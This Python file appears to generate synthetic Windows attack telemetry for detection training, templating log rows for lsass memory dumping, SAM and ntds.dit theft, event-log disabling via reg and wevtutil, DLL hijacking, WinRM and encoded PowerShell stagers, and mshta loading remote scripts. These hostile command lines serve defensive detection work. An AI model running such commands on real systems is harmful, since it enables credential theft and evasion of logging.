"""What attackers' agents leave beside their commands: readers of memory, files dropped over shares, logs and guards put out."""

from __future__ import annotations

from training.generators.attack_rows import parse_events

AGENT_EVENTS = parse_events(
    r"""
# lsass opened by an agent, by what it took over, and by tools brought along; with and without a call trace
ag-lsass-agent access +T1003.001: ‹own› ;; ‹lsass› ;; «0x1410¦0x1010¦0x1438¦0x143a¦0x1fffff¦0x1f3fff¦0x1f1fff¦0x1038¦0x1418¦0x40» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)
ag-lsass-agent-plain access +T1003.001: ‹own› ;; ‹lsass› ;; «0x1410¦0x1010¦0x1438¦0x1fffff¦0x1f3fff¦0x1038¦0x101010»
ag-lsass-shell access +T1003.001: «‹ps›¦‹ps›¦‹cmd›¦‹sys›\rundll32.exe¦‹sys›\regsvr32.exe¦‹sys›\mshta.exe» ;; ‹lsass› ;; «0x1410¦0x1010¦0x1438¦0x1fffff¦0x1f3fff¦0x1038» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)
ag-lsass-managed access +T1003.001: «‹ps›¦‹own›» ;; ‹lsass› ;; «0x1fffff¦0x1f3fff¦0x1410» ;; C:\Windows\System32\«KERNELBASE.dll|C:\Windows\assembly\NativeImages_v4.0.30319_64\System\‹hash›\System.ni.dll|UNKNOWN(‹hex›)¦KERNEL32.DLL|C:\Windows\SYSTEM32\dbgcore.DLL|C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\‹hash›\System.Management.Automation.ni.dll»
ag-lsass-procdump access +T1003.001: C:\«Program Files¦Tools¦Temp¦Users\‹user›\Downloads¦Windows\Temp»\procdump«¦64¦64a».exe ;; ‹lsass› ;; «0x1fffff¦0x1478¦0x1410» ;; C:\Windows\System32\«KERNELBASE.dll|C:\Program Files\procdump64.exe|C:\Windows\System32\KERNEL32.DLL¦KERNEL32.DLL|C:\Windows\SYSTEM32\dbgcore.DLL|C:\Tools\procdump64.exe»
ag-lsass-wow64 access +T1003.001: «‹own›¦C:\Tools\procdump.exe¦C:\Windows\SysWOW64\rundll32.exe» ;; ‹lsass› ;; 0x1fffff ;; C:\Windows\System32\wow64.dll|C:\Windows\System32\wow64cpu.dll|C:\Windows\System32\wow64.dll|UNKNOWN(‹hex›)
ag-lsass-comsvcs access +T1003.001: ‹sys›\rundll32.exe ;; ‹lsass› ;; «0x1fffff¦0x1410» ;; C:\Windows\System32\KERNEL32.DLL|C:\Windows\SYSTEM32\dbgcore.DLL|C:\Windows\SYSTEM32\comsvcs.dll|C:\Windows\System32\rundll32.exe
ag-lsass-4656 handle +T1003.001: 4656 ;; Process ;; ‹lsass_device› ;; «‹own›¦‹own›¦‹ps›¦‹sys›\rundll32.exe¦C:\Tools\procdump64.exe» ;; «0x1410¦0x1010¦0x1438¦0x1fffff¦0x1f3fff¦0x1038¦0x43a»
ag-lsass-4663 handle +T1003.001: 4663 ;; Process ;; ‹lsass_device› ;; «‹own›¦‹own›¦‹ps›¦‹sys›\rundll32.exe¦C:\Tools\procdump64.exe» ;; 0x10
ag-lsass-4656-fields security +T1003.001: 4656 ;; ObjectServer=Security ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; HandleId=0x‹pid› ;; AccessList=%%1537↵%%1538↵%%4480↵%%4481↵%%4482↵%%4484↵%%4490 ;; AccessMask=«0x1fffff¦0x1f3fff¦0x1410» ;; ProcessId=0x‹pid› ;; ProcessName=«‹own›¦‹ps›¦‹sys›\rundll32.exe»
ag-dump-written file +T1003.001: «‹own›¦‹ps›¦C:\Tools\procdump64.exe¦‹sys›\rundll32.exe» ;; ‹ownplace›\lsass«_‹pid›¦_dump¦-‹n›¦-comsvcs¦¦_dump-‹n›¦.exe_24‹pid›_1‹pid›».«dmp¦DMP¦mdmp»
ag-secret-read security +T1003.004: 4662 ;; ObjectServer=LSA ;; ObjectType=SecretObject ;; ObjectName=Policy\Secrets\«DPAPI_SYSTEM¦NL$KM¦$MACHINE.ACC¦_SC_‹name›¦DefaultPassword» ;; AccessList=%%«5904¦5905» ;; AccessMask=0x«1¦2¦3» ;; Properties=-
ag-sam-module log +T1003.002: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4103 ;; Payload=CommandInvocation(Invoke-Expression): "Invoke-Expression"↵ParameterBinding(Invoke-Expression): name="Command"; value="reg.exe save hklm\«sam¦system» «C:\Users\Public\¦¦%temp%\»«sam¦sy¦s».«hiv¦save¦bak»"↵CommandInvocation(Out-String): "Out-String"
ag-banner-module log +T1003.001: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4103 ;; Payload=CommandInvocation(«Write-Output¦Out-Default¦Out-String»): "Write-Output"↵ParameterBinding(Write-Output): name="InputObject"; value="mimikatz(powershell) # sekurlsa::«logonpasswords¦wdigest¦msv¦tspkg»↵Authentication Id : 0 ; ‹pid› (00000000:‹hex›)↵Session : Interactive from 1↵User Name : ‹user›"
# ntds.dit in a snapshot
ag-ntds-snapshot database +T1003.003: 326 ;; NTDS ;; C:\$SNAP_2024010‹n›1‹pid›_VOLUMEC$\Windows\NTDS\ntds.dit
ag-ntds-detach database +T1003.003: 327 ;; NTDS ;; C:\$SNAP_2024010‹n›1‹pid›_VOLUMEC$\Windows\NTDS\ntds.dit
ag-ntds-shadow database +T1003.003: 216 ;; lsass ;; \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹n›\Windows\NTDS\ntds.dit
near-ag-ntds-home database: 326 ;; «lsass¦NTDS» ;; C:\Windows\NTDS\ntds.dit
# The log and what feeds it
ag-log-start value +T1685.001: «‹reg›¦‹ps›¦‹s32›\services.exe¦‹own›» ;; HKLM\System\CurrentControlSet\Services\EventLog\Start ;; DWORD (0x00000004)
ag-log-start-command process +T1685.001: @ ;; reg«.exe¦» add «HKLM¦HKEY_LOCAL_MACHINE»\SYSTEM\CurrentControlSet\Services\EventLog /v Start /t REG_DWORD /d 4«¦ /f»
ag-log-start-4657 security +T1685.001: 4657 ;; ObjectName=\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\EventLog ;; ObjectValueName=Start ;; OperationType=%%1905 ;; OldValueType=%%1876 ;; OldValue=2 ;; NewValueType=%%1876 ;; NewValue=4 ;; ProcessName=«‹reg›¦‹ps›¦‹s32›\services.exe»
ag-log-path process +T1685.001: @ ;; wevtutil«.exe¦» «sl¦set-log» «Security¦System¦Application» «/lfn:¦/logfilename:»C:\Windows\System32\winevt\«‹name›¦Logs\‹name›».evtx
ag-log-small process +T1685.001: @ ;; wevtutil«.exe¦» «sl¦set-log» «Security¦"Windows PowerShell"¦Microsoft-Windows-PowerShell/Operational¦Microsoft-Windows-Sysmon/Operational» «/e:false¦/enabled:false¦/e:false /q¦/q:true /e:false»
ag-log-path-value value +T1685.001: «‹s32›\svchost.exe¦‹reg›¦‹ps›» ;; HKLM\System\CurrentControlSet\Services\EventLog\«Security¦System¦Application»\File ;; C:\Windows\System32\winevt\«‹name›¦Logs\‹name›».evtx
ag-log-minint key +T1685.001: «‹reg›¦‹ps›¦‹own›» ;; HKLM\System\«CurrentControlSet¦ControlSet001»\Control\MiniNt
ag-log-minint-command process +T1685.001: @ ;; «reg«.exe¦» add HKLM\SYSTEM\«CurrentControlSet¦ControlSet001»\Control\MiniNt«¦ /f»¦powershell«.exe¦» New-Item -Path HKLM:\SYSTEM\CurrentControlSet\Control\MiniNt»
ag-audit-user security +T1685.001: 4912 ;; TargetUserSid=‹sid› ;; CategoryId=%%827«2¦3¦4¦9» ;; SubcategoryId=%%1‹pid› ;; SubcategoryGuid={0cce92‹n›-69ae-11d9-bed3-505054503030} ;; AuditPolicyChanges=%%84«52¦54¦56»
near-ag-log-size process: @ ;; wevtutil«.exe¦» «sl¦set-log» «Security¦System¦Application» /ms:«209715200¦1073741824¦4194304000» «/rt:true¦/ab:true»
# Libraries laid where Windows' services look for them
ag-dll-file file +T1574.001: «System¦‹ps›¦‹own›¦‹cmd›» ;; C:\Windows\System32\«wlbsctrl¦wbem\wbemcomn¦TSMSISrv¦TSVIPSrv¦fxsst¦phoneinfo¦ualapi¦edgegdi¦WptsExtensions¦cdpsgshims¦SprintCSP¦WindowsCoreDeviceInfo¦wlanhlp¦oci».dll
ag-dll-load load +T1574.001: C:\Windows\System32\«svchost¦wbem\WmiPrvSE¦spoolsv¦dxgiadaptercache¦SearchIndexer¦msdtc».exe ;; C:\Windows\System32\«wlbsctrl¦wbem\wbemcomn¦TSMSISrv¦TSVIPSrv¦fxsst¦phoneinfo¦ualapi¦WptsExtensions¦SprintCSP¦oci».dll
ag-dll-load-program load +T1574.001: C:\Program Files\«Internet Explorer\iexplore¦Windows Mail\wab¦Windows Photo Viewer\ImagingDevices¦Microsoft Office\root\Office16\WINWORD».exe ;; C:\Program Files\«Internet Explorer\«iertutil¦suspend¦sqmapi»¦Windows Mail\«wab32¦msoe»¦Microsoft Office\root\Office16\«wwlib¦mso»».dll
ag-dll-share security +T1574.001: 5145 ;; ObjectType=File ;; IpAddress=10.‹n›.‹n›.‹n› ;; IpPort=‹pid› ;; ShareName=\\*\«C$¦ADMIN$» ;; ShareLocalPath=\??\C:\ ;; RelativeTargetName=«Windows\System32\«wlbsctrl¦wbem\wbemcomn¦TSMSISrv¦fxsst¦SprintCSP»¦Program Files\«Internet Explorer\iertutil¦Windows Mail\wab32»».dll ;; AccessMask=«0x2¦0x17019f¦0x12019f¦0x120116» ;; AccessList=%%4417↵%%4418
# Remote shells and their sessions
ag-winrm-out connected +T1021.006: «‹own›¦‹ps›¦‹ps›» ;; «5985¦5986» ;; -
ag-winrm-child process +T1021.006: ‹sys›\«cmd¦WindowsPowerShell\v1.0\powershell¦whoami¦hostname».exe ;; «C:\Windows\system32\cmd.exe /C ‹name›¦"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"¦powershell.exe -nop -w hidden -c "‹name›"» ;; C:\Windows\System32\«wsmprovhost¦winrshost».exe ;; C:\Windows\system32\«wsmprovhost.exe -Embedding¦WinrsHost.exe -Embedding»
ag-stager-child process +T1059.001: @ ;; powershell«.exe¦» -«noP -sta -w 1¦nop -w hidden¦NoP -NonI -W Hidden» -«enc¦EncodedCommand¦e» ‹enc›
# Children that give their parent away
ag-mshta-child process +T1218.005: «‹cmd›¦‹ps›¦‹sys›\calc.exe¦‹sys›\notepad.exe» ;; «C:\Windows\System32\cmd.exe /c «calc.exe¦start ‹name›.exe¦‹ownplace›\‹name›.bat»¦powershell.exe -c ‹name›¦calc.exe¦notepad.exe» ;; C:\Windows\«System32¦SysWOW64»\mshta.exe ;; "C:\Windows\System32\mshta.exe" «"C:\Users\‹user›\Downloads\‹name›.hta"¦http://‹ip›/‹name›.hta¦vbscript:Close(Execute("GetObject(""script:http://‹ip›/‹name›.sct"")"))»
ag-hh-child process +T1218.001: «‹cmd›¦‹ps›¦‹sys›\calc.exe» ;; «C:\Windows\System32\cmd.exe /c «calc.exe¦‹ownplace›\‹name›.bat»¦powershell.exe -c ‹name›¦calc.exe» ;; C:\Windows\hh.exe ;; "C:\Windows\hh.exe" C:\«Users\‹user›\Downloads¦ProgramData»\‹name›.chm
ag-cpl process +T1218.002: @ ;; «control.exe¦"C:\Windows\System32\rundll32.exe" «"C:\Windows\System32\shell32.dll",#44¦Shell32.dll,Control_RunDLL¦shell32.dll,Control_RunDLLAsUser»» «"¦»‹ownplace›\‹name›.cpl«"¦»
ag-web-child process +T1505.003: ‹cmd› ;; «"cmd" /c «whoami¦dir¦ipconfig¦net user»¦C:\Windows\System32\cmd.exe /c ‹name›» ;; C:\Windows\System32\inetsrv\w3wp.exe ;; c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchange«OWA¦ECP¦OAB»AppPool" -v "v4.0" -c "C:\Program Files\Microsoft\Exchange Server\V15\bin\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\.\pipe\iisipm‹guid› -h "C:\inetpub\temp\apppools\MSExchangeOWAAppPool.config" -w "" -m 0
ag-mic value +T1123: C:\Windows\System32\svchost.exe ;; «HKLM¦‹hku›»\SOFTWARE\Microsoft\Windows\CurrentVersion\CapabilityAccessManager\ConsentStore\microphone\NonPackaged\C:#«Windows#System32#WindowsPowerShell#v1.0#powershell.exe¦Windows#System32#rundll32.exe¦Users#‹user›#Downloads#‹name›.exe¦Users#‹user›#AppData#Local#Temp#‹name›.exe¦Windows#Temp#‹name›.exe»\LastUsedTime«Start¦Stop» ;; «QWORD (0x01da‹pid›-0x‹pid›)¦QWORD (0x00000000-0x00000000)»
ag-service-pipe process +T1134.001: ‹cmd› ;; «C:\Windows\system32\cmd.exe /c echo ‹name› > \\.\pipe\‹name›¦%COMSPEC% /c echo ‹name› > \\.\pipe\‹name›» ;; C:\Windows\System32\services.exe ;; C:\Windows\system32\services.exe
"""
)
